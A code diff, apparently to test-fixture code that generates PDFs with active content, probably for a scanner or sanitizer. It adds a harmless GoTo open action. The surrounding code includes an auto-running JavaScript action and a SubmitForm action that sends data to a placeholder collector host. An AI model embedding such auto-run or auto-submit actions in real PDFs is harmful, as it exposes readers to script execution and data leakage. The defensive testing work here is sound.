@@ -62,7 +62,16 @@ export async function bombPdf(mb: number, where: "objstm" | "content"): Promise<
   return doc.save({ useObjectStreams: false });
 }
 
-export type ActiveKind = "openaction-js" | "page-aa-submit" | "names-js" | "escaped-js-link" | "launch-link" | "import-data" | "rich-media" | "widget-aa";
+export type ActiveKind =
+  | "openaction-goto"
+  | "openaction-js"
+  | "page-aa-submit"
+  | "names-js"
+  | "escaped-js-link"
+  | "launch-link"
+  | "import-data"
+  | "rich-media"
+  | "widget-aa";
 
 /**
  * A one-page PDF carrying these kinds of active content. `objectStreams` saves it with object
@@ -80,6 +89,8 @@ export async function activePdf(kinds: ActiveKind | ActiveKind[], objectStreams 
     else page.node.set(PDFName.of("Annots"), ctx.obj([ref]));
   };
   const js = (code: string) => ctx.obj({ S: "JavaScript", JS: PDFString.of(code) });
+  // Not active: opening at a page, as pdfTeX writes into every file.
+  if (has("openaction-goto")) doc.catalog.set(PDFName.of("OpenAction"), ctx.register(ctx.obj({ S: "GoTo", D: [page.ref, "Fit"] })));
   if (has("openaction-js")) doc.catalog.set(PDFName.of("OpenAction"), ctx.register(js("app.alert('hi')")));
   if (has("page-aa-submit")) {
     const submit = ctx.obj({ S: "SubmitForm", F: ctx.obj({ FS: "URL", F: PDFString.of("https://collector.example.net/x") }), Flags: 4 });
